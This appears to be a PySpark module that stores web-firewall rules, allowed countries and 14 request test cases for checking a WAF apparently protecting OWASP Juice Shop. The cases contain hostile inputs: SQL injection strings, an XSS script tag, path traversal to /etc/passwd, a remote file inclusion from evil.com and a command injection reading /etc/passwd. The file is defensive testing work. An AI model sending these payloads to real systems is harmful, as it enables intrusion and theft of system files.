"""Small fixed sets as tables."""

from __future__ import annotations

from collections.abc import Iterable, Sequence

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql.types import StructType, _parse_datatype_string


def literal_table(spark: SparkSession, rows: Iterable[Sequence], schema: str) -> DataFrame:
    """Rows given in code as a table whose size the optimizer knows."""
    kind = _parse_datatype_string(schema)
    assert isinstance(kind, StructType)
    names = kind.names
    rows = [tuple(row) for row in rows]
    if not rows:
        return spark.createDataFrame([], kind)
    marks, values = [], {}
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            values[f"v{r}_{c}"] = value
        marks.append("(" + ", ".join(f":v{r}_{c}" for c in range(len(names))) + ")")
    table = spark.sql(f"SELECT * FROM VALUES {', '.join(marks)} AS t({', '.join(names)})", args=values)
    return table.select([F.col(f.name).cast(f.dataType).alias(f.name) for f in kind])


# Rule names, priorities, actions.
RULES = [
    ("JuiceShopSQLiRule", 100, "BLOCK"),
    ("PathTraversalRule", 140, "BLOCK"),
    ("RFIProtectionRule", 145, "BLOCK"),
    ("CommandInjectionRule", 150, "BLOCK"),
    ("LargeHeaderRule", 160, "BLOCK"),
    ("RateLimitRule", 200, "BLOCK"),
    ("GeoRestrictionRule", 300, "BLOCK"),
    ("IPReputationRule", 400, "BLOCK"),
    ("AWSManagedRulesCommonRuleSet", 500, "NONE"),
    ("AWSManagedRulesSQLiRuleSet", 600, "NONE"),
]
EMERGENCY_PRIORITY = 50

# The countries that are let in.
COUNTRIES = ["US", "CA", "GB"]

# 14 request cases as (name, expected status, method, path, query as sent,
# header, value, body).
CASES = [
    ("basic_homepage", 200, "GET", "/", "", None, None, None),
    ("products_page", 200, "GET", "/", "", None, None, None),
    ("login_page", 200, "GET", "/", "", None, None, None),
    ("legitimate_search", 200, "GET", "/rest/products/search", "q=apple", None, None, None),
    ("juice_shop_sqli", 403, "GET", "/rest/products/search", "q=%27%20OR%201=1--", None, None, None),
    ("classic_sqli_union", 403, "GET", "/rest/products/search",
     "q=apple%27%20UNION%20SELECT%20*%20FROM%20users--", None, None, None),
    ("xss_script_tag", 403, "GET", "/rest/products/search",
     "q=%3Cscript%3Ealert(%22xss%22)%3C/script%3E", None, None, None),
    ("path_traversal", 403, "GET", "/../../etc/passwd", "", None, None, None),
    ("rfi_attempt", 403, "GET", "/rest/products", "include=http://evil.com/shell.php", None, None, None),
    ("command_injection", 403, "GET", "/rest/products/search", "q=apple;%20cat%20/etc/passwd", None, None, None),
    ("rate_limit_test", 200, "GET", "/rest/products", "", None, None, None),
    ("malicious_user_agent", 403, "GET", "/", "", "User-Agent", "sqlmap/1.0 (http://sqlmap.org)", None),
    ("large_header", 403, "GET", "/", "", "X-Large-Header", "A" * 8192, None),
    ("sqli_post_body", 403, "POST", "/rest/user/login", "", "Content-Type", "application/json",
     """{"email": "admin' OR '1'='1", "password": "test"}"""),
]
RATE_CASE = "rate_limit_test"

# What each request case is about, in the order of the cases.
DESCRIPTIONS = [
    "Basic homepage access should be allowed",
    "Products page should be accessible",
    "Login page should be accessible",
    "Legitimate product search should work",
    "Juice Shop specific SQL injection should be blocked",
    "Classic SQL injection UNION attack should be blocked",
    "XSS script tag injection should be blocked",
    "Path traversal attack should be blocked",
    "Remote file inclusion attempt should be blocked",
    "Command injection attempt should be blocked",
    "High rate requests should eventually be blocked",
    "Requests with suspicious user agents should be blocked",
    "Requests with oversized headers should be blocked",
    "SQL injection in POST body should be blocked",
]
# Fixed value: what stands behind the name in the metric of a managed rule set.
MANAGED_METRIC = "Metric"


def rule_list(spark: SparkSession, emergency: Sequence[str] = ("Emergency-IP-Block-1",)) -> DataFrame:
    """Rules as (name, priority, action, metric_name), with emergency rules at their own priority.

    A rule's metric has its name; that of a managed set, which takes no action of its own, has a word behind it.
    """
    listed = [*RULES, *((name, EMERGENCY_PRIORITY, "BLOCK") for name in emergency)]
    rows = [(name, at, action, name + MANAGED_METRIC * (action == "NONE")) for name, at, action in listed]
    return literal_table(spark, rows, "name string, priority int, action string, metric_name string")


def allowed_countries(spark: SparkSession, countries: Sequence[str] = COUNTRIES) -> DataFrame:
    return literal_table(spark, [(c,) for c in countries], "country string")


def blocked_ranges(spark: SparkSession, cidrs: Sequence[str]) -> DataFrame:
    return literal_table(spark, [(c,) for c in cidrs], "cidr string")


def uri_patterns(spark: SparkSession, patterns: Sequence[str]) -> DataFrame:
    return literal_table(spark, [(p,) for p in patterns], "pattern string")


def request_cases(spark: SparkSession) -> DataFrame:
    """The request cases, one row each; ``special`` marks the rate probe."""
    rows = [
        (no, *case, "rate_limit" if case[0] == RATE_CASE else None, DESCRIPTIONS[no])
        for no, case in enumerate(CASES)
    ]
    schema = (
        "case_no int, test_name string, expected_status int, method string, uri string, args string, "
        "header_name string, header_value string, body string, special string, description string"
    )
    return literal_table(spark, rows, schema)
